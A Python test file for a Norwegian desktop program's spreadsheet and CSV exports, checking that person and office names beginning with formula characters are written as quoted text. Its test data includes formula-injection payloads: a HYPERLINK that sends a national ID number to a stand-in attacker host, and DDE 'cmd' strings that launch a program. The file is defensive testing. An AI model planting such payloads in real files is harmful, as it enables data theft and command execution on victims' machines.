"""No export turns a name into a live spreadsheet formula (CSV/formula injection).

A person named ``=HYPERLINK("http://…?fnr="&B4;"Klikk her")`` must reach every spreadsheet and CSV
file the program writes as text: in .xlsx a string cell (no ``<f>`` element) with Excel's quote
prefix, in CSV with a leading apostrophe. (KOSTRA 11CF is a fixed-width text file of codes and
numbers, no names: nothing to neutralise there.)
"""

from __future__ import annotations

import csv
import datetime as dt
import zipfile
from pathlib import Path

import pytest
from openpyxl import load_workbook
from sqlalchemy import select, update

from kvp_desktop.exports.cells import csv_text, is_risky
from kvp_desktop.services.infrastructure.context import AppContext
from kvp_desktop.store.models import PayoutLine, PayoutRun, Person

EVIL = '=HYPERLINK("http://angriper.example/?fnr="&B4;"Klikk her")'
LEADERS = [EVIL, "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+9)*cmd|' /C calc'!A0",
           "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("value", LEADERS)
def test_every_formula_leader_is_neutralised(value: str) -> None:
    assert is_risky(value) and csv_text(value) == "'" + value


@pytest.mark.parametrize("value", ["-125,50", "+47 12345678", "1 234,00", "Ola Nordmann", "", "Åse = sjef"])
def test_plain_text_and_numbers_stay_as_they_are(value: str) -> None:
    assert csv_text(value) == value


def _no_formulas(path: Path) -> None:
    with zipfile.ZipFile(path) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name), name


def _texts(path: Path) -> list[str]:
    book = load_workbook(path)
    found = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if isinstance(cell.value, str) and cell.value.startswith("=HYPERLINK"):
                    assert cell.data_type == "s" and cell.quotePrefix
                    found.append(cell.value)
    return found


def _name_everyone_evil(ctx: AppContext, person_ids: list[int] | None = None) -> None:
    with ctx.uow() as uow:
        query = update(Person).values(first_name=EVIL, last_name=EVIL)
        if person_ids is not None:
            query = query.where(Person.id.in_(person_ids))
        uow.session.execute(query)
        uow.commit()


def test_portfolio_export_keeps_a_formula_name_as_text(demo_ctx: AppContext, tmp_path: Path) -> None:
    from kvp_desktop.services.portfolio.portfolio import PortfolioFilter, export_view

    _name_everyone_evil(demo_ctx)
    path = tmp_path / "portefolje.xlsx"
    count = export_view(demo_ctx.as_user("demo.saksbehandler"), PortfolioFilter(), dt.date(2026, 11, 23), path)
    assert count > 0
    _no_formulas(path)
    assert len(_texts(path)) >= count


def test_payroll_csv_and_xlsx_keep_a_formula_name_as_text(demo_ctx: AppContext, tmp_path: Path) -> None:
    from kvp_desktop.services.payouts import payroll

    with demo_ctx.uow() as uow:
        run_id = uow.session.scalars(select(PayoutRun.id).where(PayoutRun.state != "draft")
                                     .order_by(PayoutRun.id)).first()
        assert run_id is not None
        people = list(uow.session.scalars(select(PayoutLine.person_id).where(PayoutLine.run_id == run_id)))
    _name_everyone_evil(demo_ctx, people)
    ctx = demo_ctx.as_user("demo.saksbehandler")
    xlsx = tmp_path / "lonn.xlsx"
    assert payroll.export_xlsx(ctx, run_id, xlsx) > 0
    _no_formulas(xlsx)
    assert _texts(xlsx)
    path = tmp_path / "lonn.csv"
    assert payroll.export_csv(ctx, run_id, path) > 0
    with path.open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.reader(handle, delimiter=";"))[1:]
    assert rows and all(row[1].startswith("'=HYPERLINK") for row in rows)
    assert not any(cell.startswith(("=", "+", "@")) for row in rows for cell in row)


def test_outcomes_workbook_keeps_a_formula_office_name_as_text(tmp_path: Path) -> None:
    from kvp_desktop.exports.outcomes_xlsx import OutcomesTable, write_outcomes_xlsx

    table = OutcomesTable(title="Resultater", office_name=EVIL, filter_text="-alle", year=2026,
                          made=dt.date(2026, 11, 23), rows=(), years=(2026,), by_year=((EVIL, (1,)),))
    path = write_outcomes_xlsx(table, tmp_path / "resultater.xlsx")
    _no_formulas(path)
    assert len(_texts(path)) == 3  # the office name on both sheets and the row label
